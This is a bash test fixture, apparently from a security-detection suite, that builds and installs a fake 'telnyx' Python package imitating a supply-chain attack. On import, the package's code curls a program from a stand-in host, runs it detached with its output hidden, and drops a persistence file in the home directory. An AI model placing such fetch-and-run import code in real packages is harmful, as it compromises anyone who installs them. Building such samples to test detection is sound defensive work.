#!/bin/bash
# An imported module fetches a zipped python program with curl and leaves it running.
#: tool python
#: description a test imports a module that fetches a program with curl and leaves it running
#: project a test that imports one installed package
#: network none
#: home DIR/../../home
#: serve DIR/../../served
#: resolve git-tanstack.example=203.0.113.10
#: finding drop-exec
#: finding survivor
#: attack telnyx and durabletask, 2026
if [ "${1-}" = prepare ]; then
  /usr/bin/python3 -m venv ~/venv
  mkdir -p ~/wheel && cd ~/wheel
  cat > telnyx.py <<'END'
import pathlib, subprocess

subprocess.run(["curl", "-k", "-L", "-s", "http://git-tanstack.example/sleeper.py", "-o", "/tmp/transformers.pyz"])
subprocess.Popen(["/usr/bin/python3", "/tmp/transformers.pyz"], start_new_session=True, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
home = pathlib.Path.home()
(home / ".local/bin").mkdir(parents=True, exist_ok=True)
(home / ".local/bin/pgmonitor.py").write_text("pass\n")
END
  mkdir -p telnyx-1.0.0.dist-info
  printf 'Metadata-Version: 2.1\nName: telnyx\nVersion: 1.0.0\n' > telnyx-1.0.0.dist-info/METADATA
  printf 'Wheel-Version: 1.0\nGenerator: corpus\nRoot-Is-Purelib: true\nTag: py3-none-any\n' > telnyx-1.0.0.dist-info/WHEEL
  : > telnyx-1.0.0.dist-info/RECORD
  /usr/bin/python3 -m zipfile -c ~/telnyx-1.0.0-py3-none-any.whl * && rm -r ~/wheel && cd ~
  ~/venv/bin/pip install --quiet --no-index ~/telnyx-1.0.0-py3-none-any.whl
  exit
fi
~/venv/bin/python -c "import telnyx"
